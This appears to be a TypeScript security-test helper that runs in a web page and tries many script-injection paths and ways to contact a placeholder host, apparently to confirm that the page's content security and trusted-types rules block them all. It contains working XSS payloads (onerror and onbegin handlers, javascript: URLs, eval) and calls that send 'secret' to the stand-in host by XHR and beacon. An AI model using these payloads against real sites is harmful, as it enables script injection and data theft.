// What a script that got into the page would try next. Runs in the page, so it imports nothing.

/**
 * Tries every way there is to run a text as a script and to reach the host at `stranger`; resolves
 * with the names of the scripts that ran, once all have had their time.
 */
export async function tryToBreakOut(stranger: string): Promise<readonly string[]> {
	const ran = new Set<string>();
	const page = globalThis as unknown as Record<string, unknown> & { ran: (name: string) => void };
	page.ran = (name) => void ran.add(name);
	/** Text that is code, by a type that TypeScript would refuse as the page's policy does. */
	const code = (name: string) => `ran('${name}')`;
	const host = document.body.appendChild(document.createElement('div'));
	const make = (tag: string, attributes: Record<string, string> = {}, inHead = false) => {
		const element = document.createElement(tag);
		for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
		return (inHead ? document.head : host).appendChild(element);
	};
	const blobUrl = (name: string) =>
		URL.createObjectURL(new Blob([`(self.ran||fetch)('${name}')`], { type: 'text/javascript' }));
	const dataUrl = (name: string) => `data:text/javascript,${encodeURIComponent(code(name))}`;
	const image = (name: string) => `<img src="data:," onerror="${code(name)}">`;
	const press = (element: Element) => element.dispatchEvent(new MouseEvent('click'));

	const attempts: Record<string, () => unknown> = {
		// A text as HTML.
		innerHTML: () => (host.appendChild(document.createElement('p')).innerHTML = image('innerHTML')),
		outerHTML: () => (host.appendChild(document.createElement('p')).outerHTML = image('outerHTML')),
		insertAdjacentHTML: () => host.insertAdjacentHTML('beforeend', image('insertAdjacentHTML')),
		fragment: () => host.append(document.createRange().createContextualFragment(image('fragment'))),
		domParser: () =>
			host.append(
				document.adoptNode(
					new DOMParser().parseFromString(image('domParser'), 'text/html').body.firstChild!
				)
			),
		unsafeHtml: () =>
			(
				host.appendChild(document.createElement('p')) as unknown as {
					setHTMLUnsafe(html: string): void;
				}
			).setHTMLUnsafe(image('unsafeHtml')),
		shadow: () =>
			(host.appendChild(document.createElement('p')).attachShadow({ mode: 'open' }).innerHTML =
				image('shadow')),
		svgHandler: () =>
			(host.appendChild(document.createElement('p')).innerHTML =
				`<svg><animate onbegin="${code('svgHandler')}" attributeName="x" dur="1s"></svg>`),
		srcdoc: () => make('iframe', { srcdoc: `<script>parent.${code('srcdoc')}</script>` }),
		frameScript: () => make('iframe', { src: `javascript:parent.${code('frameScript')}` }),
		frameData: () =>
			make('iframe', { src: `data:text/html,<script src="${stranger}/frameData.js"></script>` }),
		// A text as code.
		evalText: () => (0, eval)(code('evalText')),
		newFunction: () => new Function(code('newFunction'))(),
		asyncFunction: () => (async () => {}).constructor.call(null, code('asyncFunction'))(),
		timeout: () => setTimeout(code('timeout') as unknown as () => void),
		interval: () => {
			const id = setInterval(code('interval') as unknown as () => void);
			setTimeout(() => clearInterval(id), 50);
		},
		handlerAttribute: () => press(make('button', { onclick: code('handlerAttribute') })),
		scriptText: () => {
			const script = document.createElement('script');
			script.text = code('scriptText');
			host.append(script);
		},
		scriptChild: () => {
			const script = document.createElement('script');
			script.append(code('scriptChild'));
			host.append(script);
		},
		svgScript: () => {
			const script = document.createElementNS('http://www.w3.org/2000/svg', 'script');
			script.append(code('svgScript'));
			host
				.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'))
				.append(script);
		},
		scriptData: () => make('script', { src: dataUrl('scriptData') }),
		scriptBlob: () => make('script', { src: blobUrl('scriptBlob') }),
		scriptHost: () => {
			const script = document.createElement('script');
			script.src = `${stranger}/scriptHost.js`;
			host.append(script);
		},
		importMap: () => {
			const script = document.createElement('script');
			script.type = 'importmap';
			script.append(`{"imports":{"mapped":"${stranger}/importMap.js"}}`);
			host.append(script);
			return import(/* @vite-ignore */ 'mapped' as string);
		},
		importData: () => import(/* @vite-ignore */ dataUrl('importData')),
		importBlob: () => import(/* @vite-ignore */ blobUrl('importBlob')),
		importHost: () => import(/* @vite-ignore */ `${stranger}/importHost.js`),
		linkScript: () => {
			const link = make('a', { href: `javascript:void ${code('linkScript')}` });
			link.click();
		},
		address: () => (location.href = `javascript:void ${code('address')}`),
		// Workers of another's making.
		workerData: () =>
			(new Worker(`data:text/javascript,postMessage(1)`).onmessage = () => ran.add('workerData')),
		workerBlob: () => {
			const url = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
			new Worker(url).onmessage = () => ran.add('workerBlob');
		},
		sharedWorker: () => {
			const text = 'onconnect = (event) => event.ports[0].postMessage(1)';
			const { port } = new SharedWorker(URL.createObjectURL(new Blob([text])));
			port.onmessage = () => ran.add('sharedWorker');
		},
		serviceWorker: () =>
			navigator.serviceWorker
				.register('/another-worker.js?by=stranger')
				.then(() => ran.add('serviceWorker')),
		// The page's own word on what may be a script.
		anotherPolicy: () => policyNamed('mine').then(() => ran.add('anotherPolicy')),
		defaultPolicy: () => policyNamed('default').then(() => ran.add('defaultPolicy')),
		sveltePolicy: () => policyNamed('svelte-trusted-html').then(() => ran.add('sveltePolicy')),
		workerPolicy: () => policyNamed('dateline-worker-url').then(() => ran.add('workerPolicy')),
		kitPolicy: () => policyNamed('sveltekit-trusted-url').then(() => ran.add('kitPolicy')),
		// To reach the stranger.
		fetch: () => fetch(`${stranger}/fetch`, { mode: 'no-cors' }),
		xhr: () => {
			const request = new XMLHttpRequest();
			request.open('POST', `${stranger}/xhr`);
			request.send('secret');
		},
		beacon: () => navigator.sendBeacon(`${stranger}/beacon`, 'secret'),
		eventSource: () => new EventSource(`${stranger}/eventSource`),
		webSocket: () => new WebSocket(`${stranger.replace('http', 'ws')}/webSocket`),
		image: () => (new Image().src = `${stranger}/image`),
		srcset: () => make('img', { srcset: `${stranger}/srcset 1x` }),
		video: () => make('video', { src: `${stranger}/video`, preload: 'auto', autoplay: '' }),
		audio: () => (new Audio(`${stranger}/audio`).preload = 'auto'),
		frame: () => make('iframe', { src: `${stranger}/frame` }),
		object: () => make('object', { data: `${stranger}/object` }),
		embed: () => make('embed', { src: `${stranger}/embed` }),
		stylesheet: () => make('link', { rel: 'stylesheet', href: `${stranger}/stylesheet.css` }, true),
		prefetch: () => make('link', { rel: 'prefetch', href: `${stranger}/prefetch` }, true),
		preload: () =>
			make('link', { rel: 'preload', as: 'script', href: `${stranger}/preload.js` }, true),
		modulePreload: () =>
			make('link', { rel: 'modulepreload', href: `${stranger}/modulePreload.js` }, true),
		icon: () => make('link', { rel: 'icon', href: `${stranger}/icon` }, true),
		manifest: () => make('link', { rel: 'manifest', href: `${stranger}/manifest` }, true),
		cssUrl: () => host.style.setProperty('background', `url(${stranger}/cssUrl)`),
		styleElement: () => (make('style').textContent = `@import "${stranger}/styleElement.css";`),
		styleAttribute: () => make('p', { style: `background: url(${stranger}/styleAttribute)` }),
		styleRule: () => {
			const sheet = new CSSStyleSheet();
			sheet.replaceSync(`body { background: url(${stranger}/styleRule) }`);
			document.adoptedStyleSheets.push(sheet);
		},
		font: () => new FontFace('f', `url(${stranger}/font)`).load(),
		svgUse: () => {
			const use = document.createElementNS('http://www.w3.org/2000/svg', 'image');
			use.setAttribute('href', `${stranger}/svgUse`);
			host.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(use);
		},
		ping: () => make('a', { href: '#ping', ping: `${stranger}/ping` }).click(),
		base: () => {
			make('base', { href: `${stranger}/` }, true);
			new Image().src = 'base';
		},
		form: () => {
			const frame = make('iframe', { name: 'target' });
			const form = make('form', { action: `${stranger}/form`, target: 'target' });
			(form as HTMLFormElement).submit();
			return frame;
		},
		formButton: () => {
			const form = make('form', { target: 'target' });
			const button = form.appendChild(document.createElement('button'));
			button.setAttribute('formaction', `${stranger}/formButton`);
			button.click();
		}
	};

	async function policyNamed(name: string): Promise<void> {
		const { trustedTypes } = globalThis as unknown as {
			trustedTypes: { createPolicy(name: string, rules: object): unknown };
		};
		trustedTypes.createPolicy(name, { createHTML: (text: string) => text });
	}

	// In a task of its own: the debugger's channel is allowed more than the page.
	await new Promise<void>((resolve) => {
		setTimeout(() => {
			for (const attempt of Object.values(attempts)) {
				try {
					// Refused, as it should be, now or later.
					Promise.resolve(attempt()).catch(() => {});
				} catch {
					// Refused at once.
				}
			}
			resolve();
		});
	});
	// Frames, workers and requests take a while.
	await new Promise((resolve) => setTimeout(resolve, 400));
	document.querySelectorAll('base').forEach((base) => base.remove());
	host.remove();
	return [...ran].sort();
}
